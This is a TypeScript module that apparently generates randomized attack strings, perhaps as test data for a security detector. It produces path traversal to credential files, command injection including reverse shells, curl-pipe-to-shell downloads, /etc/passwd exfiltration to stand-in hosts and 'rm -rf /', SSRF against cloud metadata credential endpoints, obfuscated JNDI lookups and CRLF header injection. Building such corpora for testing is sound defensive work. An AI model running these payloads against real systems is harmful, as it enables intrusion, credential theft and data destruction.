import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';
import { word } from './words.ts';

const UNIX = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'proc/self/environ',
  'etc/nginx/nginx.conf',
  'root/.ssh/id_rsa',
  'var/log/auth.log',
  'proc/version',
  'home/app/.aws/credentials',
  'app/.env',
];
const WINDOWS = [
  'windows/win.ini',
  'boot.ini',
  'windows/system32/drivers/etc/hosts',
  'inetpub/wwwroot/web.config',
];

export function traversalTool(r: Random): Payload {
  const depth = r.int(3, 12);
  const unix = r.chance(0.7);
  const target = unix ? r.pick(UNIX) : r.pick(WINDOWS);
  const step = r.pick([
    '../',
    '..%2f',
    '%2e%2e%2f',
    '%252e%252e%252f',
    '..%5c',
    '..%c0%af',
    '....//',
    '%2e%2e/',
    '..%252f',
    '..;/',
    '.%2e/',
    '..%255c',
  ]);
  const tail = r.pick(['', '', '%00', '%00.png', '', '.%00.html']);
  return {
    text: `${r.pick(['', 'static/', `${word(r)}/`]) || (step === '../' ? `${word(r)}/` : '')}${step.repeat(depth)}${target}${tail}`,
    technique: 'list of a tool',
    wire: true,
  };
}

export function traversalHand(r: Random): Payload {
  const depth = r.int(3, 9);
  const target = r.pick(UNIX);
  const text = r.pick([
    `${'../'.repeat(depth)}var/lib/${word(r)}/config.yml`,
    `${'..\\'.repeat(depth)}users\\${word(r)}\\ntuser.ini`,
    `${word(r)}\\${'..\\'.repeat(depth)}${r.pick(WINDOWS).replaceAll('/', '\\')}`,
    `images/${word(r)}/${'../'.repeat(depth)}${target}`,
    `/var/www/images/${word(r)}/${'../'.repeat(depth)}${target}`,
    `${word(r)}/${'....//'.repeat(depth)}${target}`,
    `./${word(r)}/${'../'.repeat(depth)}${target}`,
    `${word(r)}.pdf/${'../'.repeat(depth)}${target}`,
    `php://filter/convert.base64-encode/resource=${'../'.repeat(depth)}${word(r)}.php`,
    `file:///${target}?${word(r)}${r.int(1, 99)}`,
    `${word(r)}//${'..//'.repeat(depth)}${target}`,
  ]);
  const scheme = /^(file|php):/.test(text);
  return { text, technique: 'by hand', ...(scheme ? { alsoFamilies: ['ssrf'] as const } : {}) };
}

const bad = (r: Random): string =>
  r.pick([`198.51.100.${r.int(2, 250)}`, `${word(r)}-${r.int(1, 99)}.example`]);

export function commandTool(r: Random): Payload {
  const n = r.int(1000, 99999);
  const text = r.pick([
    `;echo ${r.token(6)}$((${r.int(10, 99)}+${r.int(10, 99)}))`,
    `|echo ${r.token(8)}`.replace('|echo', '| echo'),
    `&&echo ${r.token(6)}$(whoami)`,
    `;sleep ${r.int(3, 30)};#${n}`,
    `|ping -c ${r.int(3, 30)} 127.0.0.1`,
    `& ping -n ${r.int(3, 30)} 127.0.0.1 &`,
    `$(sleep ${r.int(3, 30)})${n}`,
    '`sleep ' + r.int(3, 30) + '`' + n,
    `;nslookup ${r.token(8).toLowerCase()}.${bad(r)};`,
    `|nslookup ${r.token(8).toLowerCase()}.${word(r)}.example||curl ${bad(r)}`,
    `$(curl http://${bad(r)}/${r.token(4)})`,
    `';wget http://${bad(r)}:${n % 60000}/x -O /tmp/x;'`,
    `${n}|whoami`,
    `${n};id`,
    `${n}&&cat /etc/passwd`,
    `"|cat /etc/passwd|"${n}`,
    `() { :;}; /bin/bash -c "ping -c 3 ${bad(r)}"`,
  ]);
  return { text, technique: 'commix-like', alsoFamilies: ['path-traversal'] };
}

export function commandHand(r: Random): Payload {
  const n = r.int(10, 9999);
  const script = Buffer.from(`id;${word(r)} ${n}`).toString('base64');
  const text = r.pick([
    `${word(r)}.png; cat /etc/passwd # ${n}`,
    `127.0.0.1; ls -la /home/${word(r)}`,
    `8.8.8.8 && uname -a && echo ${n}`,
    `${word(r)}$(id>/tmp/${n})`,
    '`curl ' + bad(r) + '/' + n + '|sh`',
    `;cat$IFS/etc/passwd;echo$IFS${n}`,
    `;{cat,/etc/passwd};: ${n}`,
    `;c''at /e''tc/pas''swd #${n}`,
    `;w\\ho\\am\\i;# ${n}`,
    `a;bash -i >& /dev/tcp/${bad(r)}/${n} 0>&1`,
    `x|nc -e /bin/sh ${bad(r)} ${n}`,
    `;python3 -c 'import os;os.system("id ${n}")'`,
    `||powershell -NoP -NonI -Enc ${Buffer.from(`whoami ${n}`, 'utf16le').toString('base64')}`,
    `;echo ${script}|base64 -d|bash`,
    `& dir C:\\Users\\${word(r)} & type C:\\Windows\\win.ini`,
    `$(printf '\\151\\144')${n}; rm -rf /tmp/${word(r)}`,
    `;rm -rf --no-preserve-root / #${n}`,
    `;wget -qO- http://${bad(r)}/${word(r)}.sh | sh`,
    `|| curl -d @/etc/passwd http://${bad(r)}:${n}`,
    `;chmod 777 /tmp/${word(r)} && /tmp/${word(r)} ${n}`,
    `"; sh -c "id; hostname ${n}"`,
  ]);
  return { text, technique: 'by hand', alsoFamilies: ['path-traversal'] };
}

export function ssrfTool(r: Random): Payload {
  const port = r.pick([22, 80, 2375, 3306, 5984, 6379, 8080, 8500, 9200, 11211]);
  const path = r.pick(['', '/', `/${word(r)}`, '/admin', '/server-status', `/${r.token(5)}`]);
  const local = r.pick([
    '127.0.0.1',
    'localhost',
    '0.0.0.0',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '127.1',
    '127.0.0.1.nip.io',
    '[0:0:0:0:0:ffff:7f00:1]',
    '017700000001',
    '0x7f.0x0.0x0.0x1',
  ]);
  const text = r.pick([
    `http://${local}:${port}${path}?${r.token(3)}`,
    `http://${local}:${port}${path}#${r.token(4)}`,
    `https://${local}${path}?${r.token(3)}`,
    `http://${word(r)}@${local}:${port}${path}`,
    `dict://${local}:${port}/stat`,
    `gopher://${local}:6379/_%2A1%0D%0A$8%0D%0Aflushall${r.int(1, 99)}`,
    `file:///etc/${r.pick(['passwd', 'hostname', 'hosts', 'group'])}?${r.token(3)}`,
    `ftp://${local}:${port}/${word(r)}`,
  ]);
  return { text, technique: 'loopback in many forms', alsoFamilies: ['path-traversal'] };
}

export function ssrfHand(r: Random): Payload {
  const n = r.int(2, 250);
  const text = r.pick([
    `http://169.254.169.254/latest/meta-data/iam/security-credentials/${word(r)}-${n}`,
    `http://169.254.169.254/latest/${r.pick(['user-data', 'meta-data/', 'dynamic/instance-identity/document'])}?${word(r)}=${n}`,
    `http://metadata.google.internal/computeMetadata/v1/instance/attributes/${word(r)}${n}`,
    `http://169.254.169.254/metadata/instance?api-version=2021-02-01&x=${n}`,
    `http://169.254.169.254/metadata/identity/oauth2/token?resource=https://${word(r)}${n}.example/`,
    `http://100.100.100.200/latest/meta-data/${word(r)}${n}`,
    `http://169.254.170.2/v2/credentials/${r.uuid()}`,
    `http://2852039166/latest/meta-data/${word(r)}${n}`,
    `http://0xa9fea9fe/latest/meta-data/${n}`,
    `http://[fd00:ec2::254]/latest/meta-data/${n}`,
    `http://10.0.${n}.${r.int(2, 250)}:8080/admin/${word(r)}`,
    `http://192.168.${n}.1/cgi-bin/${word(r)}`,
    `http://172.${r.int(16, 31)}.0.${n}:2375/containers/json`,
    `https://kubernetes.default.svc/api/v1/namespaces/${word(r)}${n}/secrets`,
    `http://localhost:${r.int(1000, 9999)}/actuator/env`,
    `http://${word(r)}.example@169.254.169.254/latest/meta-data/${n}`,
    `jar:http://127.0.0.1:${r.int(1000, 9999)}/${word(r)}.jar!/x`,
    `http://169.254.169.254.nip.io/latest/meta-data/${n}`,
    `gopher://127.0.0.1:3306/_${r.hex(20)}`,
  ]);
  return { text, technique: 'cloud metadata and inner hosts' };
}

const piece = (c: string, r: Random): string =>
  r.pick([
    `\${lower:${c}}`,
    `\${upper:${c}}`,
    `\${::-${c}}`,
    c,
    `\${env:${r.token(4).toUpperCase()}:-${c}}`,
    `\${sys:${word(r)}:-${c}}`,
  ]);
const jndi = (r: Random): string => [...'jndi'].map((c) => piece(c, r)).join('');
const lookupTarget = (r: Random): string =>
  `${r.pick(['', '', `${r.token(5).toLowerCase()}.`])}${bad(r)}${r.pick(['', ':1389', ':1099', ':53', ':443'])}/${r.pick(['a', 'Basic/Command/Base64/aWQ=', r.token(6), 'Exploit', '${hostName}', '${env:USER}'])}`;

export function lookupTool(r: Random): Payload {
  const text = `\${jndi:${r.pick(['ldap', 'ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'nis', 'corba'])}://${lookupTarget(r)}}`;
  return {
    text: r.pick([
      text,
      text,
      `${word(r)} ${text}`,
      `{"x":"${text}"}`,
      text.replace('jndi', r.pick(['JNDI', 'jNdI', 'Jndi'])),
    ]),
    technique: 'plain lookup',
  };
}

export function lookupHand(r: Random): Payload {
  const scheme = r.pick([
    'ldap',
    'rmi',
    'dns',
    '${lower:l}${lower:d}a${lower:p}',
    '${::-l}${::-d}${::-a}${::-p}',
    'l${::-d}ap',
  ]);
  const colon = r.pick([':', '${::-:}', ':']);
  const whole = jndi(r);
  const text = `\${${whole === 'jndi' ? '${lower:j}ndi' : whole}${colon}${scheme}://${lookupTarget(r)}}`;
  return { text, technique: 'nested lookup' };
}

export function splitTool(r: Random): Payload {
  const br = r.pick([
    '%0d%0a',
    '%0D%0A',
    '%0a',
    '%0d',
    '%E5%98%8A%E5%98%8D',
    '%250d%250a',
    '%23%0d%0a',
    '%3f%0d%0a',
    '%u000d%u000a',
    '%0d%0a%20',
    '%00%0d%0a',
    '%0d%0a%09',
  ]);
  const name = `${r.pick(['crlf', 'sess', 'evil', 'x'])}${r.int(1, 9999)}`;
  const text = r.pick([
    `${br}Set-Cookie:${name}=1`,
    `${br}Set-Cookie:%20${name}=injected;%20Path=/`,
    `${br}X-Injected:%20${name}`,
    `${br}Location:%20https://${word(r)}${r.int(1, 99)}.example/`,
    `${word(r)}${br}Content-Length:%200${br}${br}HTTP/1.1%20200%20OK${br}Content-Type:%20text/html${br}X:${name}`,
    `%2f${word(r)}${br}Set-Cookie:%20${name}=1`,
  ]);
  return { text, technique: 'list of a tool', wire: true };
}

export function splitHand(r: Random): Payload {
  const name = `${word(r)}${r.int(1, 999)}`;
  const br = r.pick(['\r\n', '\r\n', '\n']);
  const text = r.pick([
    `/home${br}Set-Cookie: ${name}=admin; Path=/`,
    `https://www.larkfield.example/${br}Location: https://${name}.example`,
    `en${br}X-Forwarded-Host: ${name}.example`,
    `${name}${br}Content-Type: text/html${br}${br}<html>${name}</html>`,
    `report.pdf"${br}Set-Cookie: ${name}=1${br}X-A: "`,
    `/${br}Access-Control-Allow-Origin: https://${name}.example${br}Access-Control-Allow-Credentials: true`,
    `/a${br}${br}HTTP/1.1 200 OK${br}Content-Type: text/html${br}Content-Length: 20${br}${br}<h1>${name}</h1>`,
    `x${br}Refresh: 0;url=https://${name}.example/`,
  ]);
  return { text, technique: 'headers by hand' };
}
